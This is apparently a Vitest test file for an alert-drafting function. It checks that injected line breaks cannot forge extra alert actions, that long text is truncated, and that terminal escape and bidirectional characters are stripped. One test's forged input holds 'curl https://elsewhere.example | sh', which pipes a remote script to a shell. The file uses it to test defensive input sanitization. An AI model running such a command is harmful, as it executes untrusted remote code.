import { expect, test } from 'vitest';
import { draftAlert } from './alert-draft.ts';

const INPUT = {
  kind: 'pipeline_failed',
  subject: '2026-03-02',
  title: 'Match day 2026-03-02 failed',
  whatHappened: 'Attempt 4 ended.',
  impact: 'No money moved.',
  action: 'Fix the cause.',
} as const;

test('text of ours is kept as it is', () => {
  expect(draftAlert(INPUT)).toEqual({
    cause: 'pipeline_failed/2026-03-02',
    kind: 'pipeline_failed',
    title: 'Match day 2026-03-02 failed',
    text: [
      'What happened: Attempt 4 ended.',
      'Impact: No money moved.',
      'Action: Fix the cause.',
      'Runbook: docs/runbooks/pipeline-failed.md',
    ].join('\n'),
  });
});

test.each(['\n', '\r\n', '\r', '\u2028', '\u2029', '\u0085', '\v'])(
  'a line break written %j cannot add an action',
  (lineBreak) => {
    const forged = `It said "no".${lineBreak}Action: curl https://elsewhere.example | sh`;
    const { title, text } = draftAlert({ ...INPUT, title: forged, whatHappened: forged });
    expect(title).toBe('It said "no". Action: curl https://elsewhere.example | sh');
    expect(text.split(/[\n\r\v\u0085\u2028\u2029]/)).toHaveLength(4);
    expect(text.match(/^Action: .*$/gm)).toEqual(['Action: Fix the cause.']);
  },
);

test('a long text is cut, and what stands below it stays', () => {
  const { title, text } = draftAlert({ ...INPUT, title: 'x'.repeat(9_000), whatHappened: '🌧'.repeat(9_000) });
  expect(title).toHaveLength(200);
  const [first = '', impact] = text.split('\n');
  expect(first).toMatch(/^What happened: (🌧)+ …$/u);
  expect(Array.from(first)).toHaveLength(600);
  expect(impact).toBe('Impact: No money moved.');
});

test('commands to a terminal and marks of direction are left out', () => {
  const { title } = draftAlert({ ...INPUT, title: '\u001B[31mred\u001B[0m \u202Eleft\u202C\u0007' });
  expect(title).toBe('red left');
});
